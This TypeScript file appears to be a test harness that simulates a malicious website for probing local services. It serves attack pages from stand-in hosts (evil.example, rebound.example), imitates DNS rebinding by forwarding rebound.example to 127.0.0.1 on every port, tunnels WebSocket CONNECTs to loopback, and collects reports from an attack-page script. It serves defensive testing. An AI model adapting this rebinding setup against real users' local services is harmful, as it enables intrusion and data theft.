import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import {
  createServer,
  request as httpRequest,
  type IncomingMessage,
  type Server,
  type ServerResponse,
} from 'node:http';
import { type AddressInfo, connect } from 'node:net';

export interface Attempt {
  readonly what: string;
  readonly outcome: string;
}

export interface PageReport {
  /** The origin of the page. */
  readonly from: string;
  readonly found: readonly Attempt[];
}

/** What a page is told to attack. */
export interface Orders {
  readonly targets: readonly string[];
  readonly paths: readonly string[];
  /** Ports that a name of the attacker leads to, once its page has been read. */
  readonly reboundPorts: readonly number[];
}

const script = readFileSync(new URL('./attack-page.js', import.meta.url), 'utf8');

/**
 * The attacker's part of the network, as a proxy of the browser: `evil.example` is its site, and
 * `rebound.example` is its site for one page, and 127.0.0.1 from then on, on every port. So a name is
 * rebound as an attacker's DNS server does it, without one. Loopback itself is reached past the proxy.
 */
export class EvilSite {
  readonly reports: PageReport[] = [];
  readonly #orders: Orders;
  readonly #server: Server;

  constructor(orders: Orders) {
    this.#orders = orders;
    this.#server = createServer((request, response) => this.#answer(request, response));
    // WebSockets go through a proxy by CONNECT.
    this.#server.on('connect', (request: IncomingMessage, socket) => {
      const port = Number(request.url?.split(':')[1]);
      const upstream = connect(port, '127.0.0.1', () => {
        socket.write('HTTP/1.1 200 OK\r\n\r\n');
        upstream.pipe(socket).pipe(upstream);
      });
      upstream.on('error', () => socket.destroy());
      socket.on('error', () => upstream.destroy());
    });
  }

  async start(): Promise<number> {
    this.#server.listen(0, '127.0.0.1');
    await once(this.#server, 'listening');
    return (this.#server.address() as AddressInfo).port;
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }

  #answer(request: IncomingMessage, response: ServerResponse): void {
    const url = new URL(request.url ?? '/', 'http://nowhere.example');
    if (url.hostname === 'rebound.example' && url.pathname !== '/attack.html')
      forward(request, response, url);
    else if (url.pathname === '/report') this.#hear(request, response);
    else if (url.hostname.endsWith('.example')) this.#page(response, url.hostname);
    else response.writeHead(404).end();
  }

  #page(response: ServerResponse, hostname: string): void {
    const isRebound = hostname === 'rebound.example';
    const orders = JSON.stringify({ ...this.#orders, own: isRebound });
    const frames = isRebound
      ? ''
      : this.#orders.reboundPorts
          .map((port) => `<iframe src="http://rebound.example:${port}/attack.html"></iframe>`)
          .join('');
    response
      .writeHead(200, { 'Content-Type': 'text/html' })
      .end(
        `<!doctype html><body>${frames}<script>globalThis.orders = ${orders}</script>` +
          `<script type="module">${script}</script>`,
      );
  }

  #hear(request: IncomingMessage, response: ServerResponse): void {
    let text = '';
    request.on('data', (chunk: Buffer) => (text += chunk.toString()));
    request.on('end', () => {
      this.reports.push(JSON.parse(text) as PageReport);
      response.end();
    });
  }
}

/** To loopback, with everything as the browser sent it, the Host first of all. */
function forward(request: IncomingMessage, response: ServerResponse, url: URL): void {
  const upstream = httpRequest(
    {
      host: '127.0.0.1',
      port: url.port,
      method: request.method,
      path: `${url.pathname}${url.search}`,
      headers: request.headers,
    },
    (answer) => {
      response.writeHead(answer.statusCode ?? 502, answer.headers);
      answer.pipe(response);
    },
  );
  upstream.on('error', () => response.destroy());
  request.pipe(upstream);
}
